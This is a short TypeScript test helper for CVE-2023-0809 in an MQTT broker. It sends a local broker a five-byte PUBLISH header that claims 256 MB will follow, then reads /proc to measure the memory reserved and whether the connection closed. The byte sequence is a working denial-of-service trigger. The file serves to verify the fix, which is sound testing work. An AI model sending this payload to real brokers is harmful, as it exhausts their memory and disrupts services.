/** CVE-2023-0809: a first packet that is no CONNECT makes the broker reserve as much memory as the packet claims to be long. */
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

function virtualKiB(pid: number): number {
  return Number(/^VmSize:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]);
}

/** A stranger sends five bytes: "PUBLISH, 256 MB to follow". How much memory the broker reserved, and whether it hung up. */
export async function sendHugePromise(
  port: number,
  pid: number,
): Promise<{ reservedKiB: number; hungUp: boolean }> {
  const before = virtualKiB(pid);
  const socket = connect(port, '127.0.0.1');
  await once(socket, 'connect');
  let hungUp = false;
  socket.on('close', () => {
    hungUp = true;
  });
  socket.on('error', () => {});
  socket.resume();
  socket.write(Buffer.from([0x30, 0xff, 0xff, 0xff, 0x7f]));
  await sleep(300);
  const reservedKiB = virtualKiB(pid) - before;
  const result = { reservedKiB, hungUp };
  socket.destroy();
  return result;
}
